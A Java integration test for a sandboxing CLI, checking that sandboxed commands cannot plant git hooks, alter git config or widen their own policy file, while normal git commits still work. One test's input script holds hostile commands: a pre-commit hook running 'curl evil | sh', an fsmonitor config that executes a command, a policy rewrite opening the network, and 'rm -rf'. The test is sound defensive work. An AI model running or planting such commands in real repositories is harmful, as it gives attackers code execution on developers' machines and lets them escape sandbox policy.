package dev.airlock.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.airlock.testing.Cli;
import dev.airlock.testing.Trees;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A sandboxed command cannot plant a git hook or config that runs on the host later, nor widen its own policy. */
class ProtectedPathsIT {

    @TempDir
    Path workspace;
    @TempDir
    Path state;
    Cli cli;

    @BeforeEach
    void setUp() throws Exception {
        git("init", "-q");
        Files.writeString(workspace.resolve("app.txt"), "v1\n");
        Files.createDirectories(workspace.resolve(".airlock/profiles"));
        Files.writeString(workspace.resolve(".airlock/profiles/workspace-write.json"), "{\"limits\": {\"pids\": 256}}");
        cli = new Cli(state);
    }

    @Test
    void hooksGitConfigAndAirlockConfigStayReadOnlyInAWritableProfile() {
        Map<String, String> gitBefore = Trees.snapshot(workspace.resolve(".git/hooks"));
        String configBefore = read(".git/config");
        String policyBefore = read(".airlock/profiles/workspace-write.json");

        var result = opaque(
                "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
                        + "git config core.fsmonitor 'touch /tmp/pwned'; printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config; "
                        + "echo '{\"network\": \"open\"}' > .airlock/profiles/workspace-write.json; rm -rf .airlock; mv .git/hooks h; "
                        + "echo end");

        assertThat(result.out()).isEqualTo("end\n");
        assertThat(result.err()).contains("Read-only file system");
        assertThat(Trees.snapshot(workspace.resolve(".git/hooks"))).isEqualTo(gitBefore);
        assertThat(read(".git/config")).isEqualTo(configBefore).doesNotContain("fsmonitor");
        assertThat(read(".airlock/profiles/workspace-write.json")).isEqualTo(policyBefore);
    }

    @Test
    void ordinaryGitWorkStillWorks() throws Exception {
        var result = cli.run("run", "--workspace", workspace.toString(), "--", "sh", "-c",
                "echo v2 > app.txt && git add app.txt && git -c user.name=a -c user.email=a@b.test commit -qm change && git log --oneline | wc -l");

        assertThat(result.exit()).as(result.toString()).isZero();
        assertThat(result.out().trim()).isEqualTo("1");
        assertThat(git("log", "--format=%s")).isEqualTo("change\n");
    }

    @Test
    void aRepositoryWithoutAHooksFolderGetsAProtectedOne() throws Exception {
        deleteTree(workspace.resolve(".git/hooks"));

        var result = opaque("echo x > .git/hooks/post-checkout");

        assertThat(result.err()).contains("Read-only file system");
        assertThat(workspace.resolve(".git/hooks")).isEmptyDirectory();
    }

    /** The script hidden from the assessment, so the container alone stands in its way. */
    private Cli.Result opaque(String script) {
        var args = new java.util.ArrayList<>(java.util.List.of("run", "--no-retry", "--workspace", workspace.toString(), "--"));
        args.addAll(dev.airlock.testing.Scripts.opaque(script));
        return cli.run(args.toArray(String[]::new));
    }

    private String read(String rel) {
        try {
            return Files.readString(workspace.resolve(rel));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private String git(String... args) throws Exception {
        var cmd = new java.util.ArrayList<>(java.util.List.of("git", "-C", workspace.toString()));
        cmd.addAll(java.util.List.of(args));
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes());
        assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
        return out;
    }

    private static void deleteTree(Path root) throws IOException {
        try (var paths = Files.walk(root)) {
            for (Path p : paths.sorted(java.util.Comparator.reverseOrder()).toList()) {
                Files.delete(p);
            }
        }
    }
}
